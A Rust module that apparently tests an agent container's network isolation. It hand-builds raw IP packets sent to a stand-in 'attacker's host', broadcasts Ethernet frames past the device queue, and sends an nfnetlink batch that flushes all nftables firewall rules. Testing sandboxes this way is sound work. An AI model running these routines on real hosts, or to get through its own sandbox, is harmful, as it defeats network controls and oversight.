//! Packets made by hand: with a capability that no agent has, so that what is behind the missing capability is proven
//! as well.

use std::net::{Ipv4Addr, SocketAddrV4};
use std::os::fd::AsRawFd;

use nix::ifaddrs::getifaddrs;
use nix::sys::socket::{
    AddressFamily as Family, MsgFlags, NetlinkAddr, SockFlag, SockProtocol, SockType, SockaddrIn,
    SockaddrLike, bind, recv, send, sendto, setsockopt, socket, sockopt,
};
use nix::sys::time::TimeVal;

use super::{Failed, sys, target};

const PORT: u16 = 9999;
/// IPv6's "no next header" would tell nothing; this number is nobody's.
const NOBODY: u8 = 253;

// linux/if_packet.h
const SOL_PACKET: i32 = 263;
const PACKET_QDISC_BYPASS: i32 = 20;

/// Sends an IP packet of a protocol to the attacker's host.
pub fn ip(protocol: u8, body: &[u8]) -> Result<String, Failed> {
    ip_with(protocol, Shape::default(), body)
}

/// What else a header says. Options come in words; the fragment is flags and offset in one.
#[derive(Debug, Clone, Copy)]
pub struct Shape<'a> {
    /// Where it says that it comes from.
    pub source: Ipv4Addr,
    /// Its options.
    pub options: &'a [u8],
    /// Its flags and its place in that.
    pub fragment: u16,
    /// Its time to live.
    pub ttl: u8,
}

impl Default for Shape<'_> {
    fn default() -> Self {
        Self { source: Ipv4Addr::UNSPECIFIED, options: &[], fragment: 0, ttl: 64 }
    }
}

/// Likewise in another shape.
pub fn ip_with(protocol: u8, shape: Shape<'_>, body: &[u8]) -> Result<String, Failed> {
    let fd = socket(Family::Inet, SockType::Raw, SockFlag::SOCK_CLOEXEC, SockProtocol::Raw)?;
    let to = SockaddrIn::from(SocketAddrV4::new(target::EVIL, 0));
    // The kernel fills in the length, the checksum, and a source that is missing.
    let packet = header(protocol, shape, body);
    sendto(fd.as_raw_fd(), &packet, &to, MsgFlags::empty())?;
    Ok("sent".to_owned())
}

/// An IPv4 packet to the attacker's host.
pub fn header(protocol: u8, shape: Shape<'_>, body: &[u8]) -> Vec<u8> {
    let words = u8::try_from(5 + shape.options.len() / 4).unwrap_or(5);
    let total = u16::try_from(usize::from(words) * 4 + body.len()).unwrap_or(u16::MAX).to_be_bytes();
    let mut bytes = vec![0x40 | words, 0, total[0], total[1], 0x12, 0x34];
    bytes.extend(shape.fragment.to_be_bytes());
    bytes.extend([shape.ttl, protocol, 0, 0]);
    bytes.extend(shape.source.octets());
    bytes.extend(target::EVIL.octets());
    bytes.extend(shape.options);
    let sum = checksum(&bytes);
    bytes[10..12].copy_from_slice(&sum.to_be_bytes());
    bytes.extend(body);
    bytes
}

fn checksum(bytes: &[u8]) -> u16 {
    let words = bytes.chunks(2).map(|pair| u32::from(pair[0]) << 8 | u32::from(*pair.get(1).unwrap_or(&0)));
    let sum = words.sum::<u32>();
    let folded = (sum & 0xffff) + (sum >> 16);
    !u16::try_from((folded & 0xffff) + (folded >> 16)).unwrap_or_default()
}

/// A datagram without a checksum, which IPv4 allows.
pub fn udp(payload: &[u8]) -> Vec<u8> {
    udp_to(PORT, payload)
}

/// Likewise to a port.
pub fn udp_to(port: u16, payload: &[u8]) -> Vec<u8> {
    let length = u16::try_from(payload.len() + 8).unwrap_or(u16::MAX);
    let mut bytes = Vec::new();
    for word in [40_000, port, length, 0] {
        bytes.extend(word.to_be_bytes());
    }
    bytes.extend(payload);
    bytes
}

/// An IPv6 packet between two addresses of the documentation.
pub fn ipv6(payload: &[u8]) -> Vec<u8> {
    let length = u16::try_from(payload.len()).unwrap_or(u16::MAX).to_be_bytes();
    let mut bytes = vec![0x60, 0, 0, 0, length[0], length[1], NOBODY, 64];
    for last in [1, 2] {
        bytes.extend([0x20, 1, 0x0d, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, last]);
    }
    bytes.extend(payload);
    bytes
}

/// Ethertype and IPv4 packet around a datagram.
pub fn ipv4_frame(datagram: &[u8]) -> Vec<u8> {
    ipv4_frame_of(17, datagram)
}

/// Likewise around what another protocol carries.
pub fn ipv4_frame_of(protocol: u8, body: &[u8]) -> Vec<u8> {
    let shape = Shape { source: Ipv4Addr::new(10, 0, 0, 9), ..Shape::default() };
    [&[8, 0][..], &header(protocol, shape, body)].concat()
}

/// Sends a frame to everybody on the container's network; `rest` begins with the ethertype.
pub fn frame(rest: &[u8]) -> Result<String, Failed> {
    frame_with(rest, false)
}

/// Likewise, and past the queue of the device.
pub fn frame_past_queue(rest: &[u8]) -> Result<String, Failed> {
    frame_with(rest, true)
}

fn frame_with(rest: &[u8], past_queue: bool) -> Result<String, Failed> {
    let fd = socket(Family::Packet, SockType::Raw, SockFlag::SOCK_CLOEXEC, None)?;
    let links = getifaddrs()?.filter(|one| one.interface_name == "eth0");
    let link = links.filter_map(|one| one.address).find_map(|address| address.as_link_addr().copied());
    let link = link.ok_or_else(|| Failed::Impossible("there is no eth0 here".to_owned()))?;
    let own = link.addr().unwrap_or_default();
    bind(fd.as_raw_fd(), &link)?;
    if past_queue {
        sys::set_option(&fd, SOL_PACKET, PACKET_QDISC_BYPASS, &1i32.to_ne_bytes())?;
    }
    let mut bytes = [&[0xff; 6][..], &own, rest].concat();
    bytes.resize(bytes.len().max(60), 0);
    send(fd.as_raw_fd(), &bytes, MsgFlags::empty())?;
    let family = link.family().map_or("no family".to_owned(), |family| format!("{family:?}"));
    Ok(format!("{} bytes sent, {family}", bytes.len()))
}

// linux/netfilter/nfnetlink.h and nf_tables.h
const NFNL_MSG_BATCH_BEGIN: u16 = 0x10;
const NFNL_MSG_BATCH_END: u16 = 0x11;
const NFT_MSG_DELTABLE: u16 = 10 << 8 | 2;
const NLM_F_REQUEST: u16 = 1;
const NLM_F_ACK: u16 = 4;
const NFNL_SUBSYS_NFTABLES: u8 = 10;

/// What `nft flush ruleset` does; the kernel's answer in words.
pub fn flush_rules() -> String {
    let flushed = || -> Result<i32, nix::Error> {
        let fd =
            socket(Family::Netlink, SockType::Raw, SockFlag::SOCK_CLOEXEC, SockProtocol::NetlinkNetFilter)?;
        setsockopt(&fd, sockopt::ReceiveTimeout, &TimeVal::new(1, 0))?;
        let parts = [
            message(NFNL_MSG_BATCH_BEGIN, NLM_F_REQUEST, NFNL_SUBSYS_NFTABLES),
            message(NFT_MSG_DELTABLE, NLM_F_REQUEST | NLM_F_ACK, 0),
            message(NFNL_MSG_BATCH_END, NLM_F_REQUEST, NFNL_SUBSYS_NFTABLES),
        ];
        sendto(fd.as_raw_fd(), &parts.concat(), &NetlinkAddr::new(0, 0), MsgFlags::empty())?;
        let mut answer = [0; 512];
        recv(fd.as_raw_fd(), &mut answer, MsgFlags::empty())?;
        Ok(i32::from_ne_bytes([answer[16], answer[17], answer[18], answer[19]]))
    };
    match flushed() {
        Ok(0) => "the kernel says that the rules are flushed".to_owned(),
        Ok(code) => format!("the kernel refuses to flush: {}", nix::Error::from_raw(-code)),
        Err(error) => format!("no flush: {error}"),
    }
}

/// A message of nfnetlink without attributes: of any family, for the given subsystem's resource.
fn message(kind: u16, flags: u16, resource: u8) -> Vec<u8> {
    let mut bytes = 20u32.to_ne_bytes().to_vec();
    bytes.extend(kind.to_ne_bytes());
    bytes.extend(flags.to_ne_bytes());
    bytes.extend(1u32.to_ne_bytes());
    bytes.extend(0u32.to_ne_bytes());
    bytes.extend([0, 0, 0, resource]);
    bytes
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_header_sums_up_to_nothing() {
        let source = Ipv4Addr::new(10, 0, 0, 1);
        let shape = Shape { source, options: &[1, 1, 1, 1], ..Shape::default() };
        let bytes = header(17, shape, &udp(b"x"));
        assert_eq!((bytes[0], checksum(&bytes[..24])), (0x46, 0));
        assert_eq!(usize::from(u16::from_be_bytes([bytes[2], bytes[3]])), bytes.len());
    }
}
